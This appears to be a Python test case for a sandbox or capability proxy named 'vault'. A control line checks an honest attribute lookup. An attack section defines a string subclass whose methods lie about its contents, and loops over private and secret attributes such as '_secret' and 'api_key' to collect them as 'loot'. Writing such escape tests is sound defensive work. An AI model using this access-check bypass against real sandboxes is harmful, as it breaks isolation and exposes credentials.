"""Asks for private names with texts whose methods say that they are not private.

Escape: the host, or the proxy, is deceived
Control: an honest name is found
"""

# control
getattr(vault, "name") == "the vault"


# attack
class Name(str):
    def startswith(self, *args):
        return False

    def __eq__(self, other):
        return other == "name" or str.__eq__(self, other)

    def __hash__(self):
        return hash("name")

    def lower(self):
        return "name"

    def __getitem__(self, i):
        return "n"

    def __str__(self):
        return "name"


loot = []
for text in ("_secret", "blueprint", "_open", "__class__", "open_hidden", "api_key"):
    for owner in (vault, vault.client):
        for use in (
            lambda: getattr(owner, Name(text)),
            lambda: owner.__getattr__(Name(text)),
            lambda: setattr(owner, Name(text), 1),
            lambda: owner._cellwright_world.call("get", owner._grip.handle, Name(text)),
        ):
            try:
                loot.append(repr(use())[:200])
            except Exception as error:
                loot.append(type(error).__name__)
loot
